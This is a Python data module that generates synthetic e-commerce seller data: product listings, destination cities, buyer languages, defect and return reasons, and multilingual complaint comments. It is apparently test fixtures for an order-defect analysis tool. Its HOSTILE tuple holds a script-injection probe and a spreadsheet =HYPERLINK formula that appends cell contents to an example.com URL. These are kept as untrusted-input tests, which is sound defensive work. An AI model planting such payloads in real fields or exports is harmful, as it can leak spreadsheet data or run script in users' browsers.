"""What the synthetic seller sells, where to, and what its buyers write."""

from __future__ import annotations

from typing import NamedTuple

from odr_analysis.sample.model import catalogue_ja


class Product(NamedTuple):
    """One listing. `weight` is its share of sales, before normalising."""

    sku: str
    german: str
    english: str
    price: float
    weight: float

    def title(self, country: str) -> str:
        """What the listing is called in a store."""
        if country == "JP":
            return catalogue_ja.TITLES[self.sku]
        return self.german if country == "DE" else self.english

    def price_in(self, country: str) -> float:
        """The price in the store's money; yen are whole."""
        return round(self.price * catalogue_ja.YEN) if country == "JP" else self.price


PRODUCTS: tuple[Product, ...] = (
    Product(
        "KT-TELLER-6",
        "Steingut Teller-Set 6-teilig, 26 cm",
        "Stoneware Plate Set of 6, 26 cm",
        39.9,
        12.0,
    ),
    Product(
        "KT-TASSE-4",
        "Kaffeetassen 4er-Set für Cappuccino, weiß",
        "Coffee Mugs Set of 4, white",
        24.5,
        9.0,
    ),
    Product(
        "KT-SCHALE-2",
        "Müslischalen 2er-Set, blau gesprenkelt",
        "Cereal Bowls Set of 2, blue speckled",
        18.99,
        7.0,
    ),
    Product("KT-VASE-1", "Vase aus Glas, rund, 20 cm", "Glass Vase, round, 20 cm", 21.0, 4.0),
    Product(
        "KU-BRETT-3",
        "Schneidebrett Bambus 3er-Set mit Saftrille",
        "Bamboo Cutting Boards Set of 3",
        27.95,
        8.0,
    ),
    Product(
        "KU-MESSER-1", "Kochmesser 20 cm, rostfrei", "Chef's Knife 20 cm, stainless", 32.9, 6.0
    ),
    Product("KU-REIBE-1", "Küchenreibe fein & grob", "Kitchen Grater fine & coarse", 12.49, 6.0),
    Product(
        "KU-SIEB-3", "Sieb-Set 3-teilig, Edelstahl", "Strainer Set of 3, stainless steel", 16.9, 5.0
    ),
    Product(
        "TX-TUCH-5",
        "Geschirrtücher 5er-Pack, Halbleinen",
        "Kitchen Towels Pack of 5, half linen",
        19.9,
        8.0,
    ),
    Product(
        "TX-DECKE-1",
        "Tischdecke 130 x 220 cm, abwaschbar",
        "Tablecloth 130 x 220 cm, wipeable",
        23.7,
        5.0,
    ),
    Product(
        "TX-KISSEN-2",
        "Kissenbezüge 2er-Set 40 x 40 cm",
        "Cushion Covers Set of 2, 40 x 40 cm",
        14.99,
        6.0,
    ),
    Product(
        "LI-KERZE-12",
        "Stumpenkerzen 12er-Pack, elfenbein",
        "Pillar Candles Pack of 12, ivory",
        17.5,
        6.0,
    ),
    Product(
        "LI-LAMPE-1",
        "Tischleuchte mit Stoffschirm, dimmbar",
        "Table Lamp with fabric shade, dimmable",
        44.0,
        4.0,
    ),
    Product(
        "AU-BOX-4",
        "Aufbewahrungsboxen 4er-Set mit Deckel",
        "Storage Boxes Set of 4 with lid",
        22.9,
        6.0,
    ),
    Product(
        "AU-HAKEN-10",
        "Wandhaken selbstklebend, 10 Stück",
        "Wall Hooks self-adhesive, 10 pieces",
        9.99,
        5.0,
    ),
    Product(
        "BI-RAHMEN-1",
        'Bilderrahmen 12" x 18", schwarz',
        'Picture Frame 12" x 18", black',
        13.9,
        0.6,
    ),
    Product(
        "BI-MONITOR-1",
        'Monitorständer bis 27" höhenverstellbar',
        'Monitor Stand up to 27" adjustable',
        29.0,
        0.5,
    ),
)
"""Two names carry bare inch marks, one of them an odd number: default quoting swallows rows."""


class City(NamedTuple):
    """Where a parcel goes."""

    name: str
    state: str
    postcode: str


CITIES: dict[str, tuple[City, ...]] = {
    "DE": (
        City("Berlin", "Berlin", "10437"),
        City("Hamburg", "Hamburg", "22085"),
        City("München", "Bayern", "80331"),
        City("Köln", "Nordrhein-Westfalen", "50672"),
        City("Frankfurt am Main", "Hessen", "60316"),
        City("Düsseldorf", "Nordrhein-Westfalen", "40213"),
        City("Stuttgart", "Baden-Württemberg", "70173"),
        City("Leipzig", "Sachsen", "04109"),
        City("Nürnberg", "Bayern", "90402"),
        City("Münster", "Nordrhein-Westfalen", "48143"),
        City("Würzburg", "Bayern", "97070"),
        City("Göttingen", "Niedersachsen", "37073"),
        City("Lübeck", "Schleswig-Holstein", "23552"),
        City("Gießen", "Hessen", "35390"),
        City("Saarbrücken", "Saarland", "66111"),
    ),
    "US": (
        City("Brooklyn", "NY", "11215"),
        City("Los Angeles", "CA", "90026"),
        City("CHICAGO", "IL", "60614-2208"),
        City("Houston", "TX", "77008"),
        City("Phoenix", "AZ", "85016"),
        City("Coeur d'Alene", "ID", "83814"),
        City("San José", "CA", "95112"),
        City("boston", "MA", "02127"),
        City("Portland", "OR", "97214"),
        City("St. Louis", "MO", "63104"),
    ),
    "FR": (
        City("Paris", "", "75011"),
        City("Lyon", "", "69003"),
        City("Nîmes", "", "30000"),
        City("Besançon", "", "25000"),
        City("Orléans", "", "45000"),
        City("Saint-Étienne", "", "42000"),
    ),
    "JP": tuple(City(*place) for place in catalogue_ja.CITIES),
}

ID_PREFIXES: dict[str, tuple[str, ...]] = {
    "DE": ("028", "302", "303", "304", "305", "306"),
    "US": ("111", "112", "113", "114"),
    "FR": ("171", "403", "405", "408"),
    "JP": ("249", "250", "503"),
}

LANGUAGES: dict[str, dict[str, float]] = {
    "DE": {"de": 0.76, "en": 0.11, "fr": 0.05, "it": 0.05, "es": 0.03},
    "US": {"en": 0.92, "es": 0.08},
    "FR": {"fr": 0.85, "en": 0.10, "de": 0.05},
    "JP": {"ja": 0.9, "en": 0.1},
}

REASONS: dict[str, dict[str, float]] = {
    "mfn": {
        "damaged": 0.2,
        "not received": 0.25,
        "not as described": 0.2,
        "defective": 0.15,
        "wrong item": 0.1,
        "late": 0.1,
    },
    "afn": {"damaged": 0.3, "not as described": 0.35, "defective": 0.25, "wrong item": 0.1},
}
"""Why an ordinary order goes wrong, by channel."""

CLAIM_REASONS: dict[str, str] = {
    "damaged": "Damaged on arrival",
    "not received": "Not received",
    "not as described": "Not as described",
    "defective": "Defective",
    "wrong item": "Wrong item sent",
    "late": "Arrived too late",
}
"""Reason to the words of claims.csv."""

CHARGEBACK_REASONS: tuple[str, ...] = (
    "Unauthorised payment",
    "Not received",
    "Not as described",
)

RETURN_REASONS: dict[str, str] = {
    "damaged": "CR-DAMAGED_BY_CARRIER",
    "not as described": "CR-NOT_AS_DESCRIBED",
    "defective": "CR-DEFECTIVE",
    "wrong item": "CR-SWITCHEROO",
    "late": "CR-MISSED_ESTIMATED_DELIVERY",
}
"""Reason to the code of the returns report. An order that never came is not returned."""

PLAIN_RETURNS: tuple[str, ...] = (
    "CR-UNWANTED_ITEM",
    "CR-ORDERED_WRONG_ITEM",
    "CR-FOUND_BETTER_PRICE",
)

_COMMENTS: dict[str, dict[str, tuple[str, ...]]] = {
    "damaged": {
        "de": (
            "Drei Teller waren zerbrochen, der Karton viel zu dünn.",
            "Kam kaputt an. Keine Polsterung, nur lose Folie.",
            "Schlecht verpackt, zwei Stücke beschädigt. Schade, sonst schönes Geschirr.",
            "Scherben im Paket! Für Zerbrechliches ist das eine Zumutung.",
            "Verpackung ungenügend,\neine Ecke abgeschlagen,\nErsatz kam bisher nicht.",
        ),
        "en": (
            "Arrived broken, hardly any padding in the box.",
            'Two pieces cracked. The box said "fragile" but there was no padding.',
            "Smashed on arrival. Packaging is a joke.",
        ),
        "fr": ("Reçu cassé, emballage très léger.", "Deux pièces abîmées à l'arrivée."),
        "it": ("Arrivato rotto, imballaggio pessimo.", "Merce danneggiata: così non va più."),
        "es": ("Llegó roto, el embalaje era muy malo.",),
    },
    "not received": {
        "de": (
            "Seit drei Wochen warte ich, das Paket ist nie angekommen.",
            "Laut Sendungsverfolgung zugestellt, bei mir war aber niemand.",
            "Ware nicht erhalten, vor dem Feiertag gebraucht. Ärgerlich!",
            "Nie geliefert.\nDer Paketdienst weiß von nichts.",
        ),
        "en": (
            "Never arrived. Tracking has not moved for two weeks.",
            "Marked as delivered but nothing was ever here.",
        ),
        "fr": ("Jamais reçu, le colis est bloqué au dépôt.",),
        "it": ("Mai arrivato, il pacco è fermo da giorni.",),
        "es": ("El paquete nunca llegó.",),
    },
    "not as described": {
        "de": (
            "Farbe ganz anders als auf dem Bild.",
            'Laut Beschreibung 30 cm, geliefert wurden "nur" 24 cm.',
            "Entspricht nicht der Beschreibung, viel kleiner als gedacht.",
        ),
        "en": ("Not what is shown in the picture.", "Smaller and thinner than described."),
        "fr": ("Ne correspond pas à la description.",),
        "it": ("Diverso dalla descrizione, qualità scarsa.",),
        "es": ("No se parece a la foto, muy pequeño.",),
    },
    "defective": {
        "de": (
            "Nach zwei Tagen defekt, Verkäufer antwortet nicht.",
            "Schon beim ersten Gebrauch gebrochen. Müll.",
        ),
        "en": ("Stopped working after a day.", "Fell apart the first time we used it."),
        "fr": ("Défectueux dès la première utilisation.",),
        "it": ("Difettoso già al primo uso.",),
        "es": ("Defectuoso, dejó de funcionar enseguida.",),
    },
    "wrong item": {
        "de": ("Falscher Artikel geliefert.", "Bestellt war weiß, gekommen ist grün."),
        "en": ("Sent the wrong item.", "Ordered four, got two of something else."),
        "fr": ("Mauvais article envoyé.",),
        "it": ("Articolo sbagliato.",),
        "es": ("Me enviaron otro artículo.",),
    },
    "late": {
        "de": (
            "Viel zu spät geliefert, Geburtstag war vorbei.",
            "Lieferung zehn Tage nach Termin.",
        ),
        "en": ("Came ten days late.", "Far too late, no answer from the seller."),
        "fr": ("Livraison très en retard.",),
        "it": ("Consegna in ritardo di una settimana.",),
        "es": ("Llegó muy tarde.",),
    },
    "neutral": {
        "de": ("Ganz in Ordnung.", "Lieferung etwas langsam, Ware okay."),
        "en": ("It is okay.", "Fine, but nothing special."),
        "fr": ("Correct, sans plus.",),
        "it": ("Nella media.",),
        "es": ("Normal.",),
    },
}

COMMENTS: dict[str, dict[str, tuple[str, ...]]] = {
    reason: {**words, "ja": catalogue_ja.COMMENTS[reason]} for reason, words in _COMMENTS.items()
}
"""Reason and language to what buyers write."""

HOSTILE: tuple[str, ...] = (
    "Zwei Teller kaputt <script>alert(1)</script> nie wieder",
    '=HYPERLINK("http://example.com/?o="&A1,"Geld zurück")',
)
"""Untrusted text a page must show as text and a spreadsheet must not run."""

MULTI_LINE: tuple[str, ...] = (
    "Erste Lieferung: kaputt.\r\n\r\nZweite Lieferung: auch kaputt.",
    "Box open,\r\ntwo plates cracked,\r\none broken.",
    "Kein Ersatz,\nkeine Antwort.",
)

RESPONSES: tuple[str, ...] = (
    "Es tut uns leid. Bitte melden Sie sich bei uns, wir ersetzen die Ware.",
    "We are sorry, a replacement is on its way.",
)
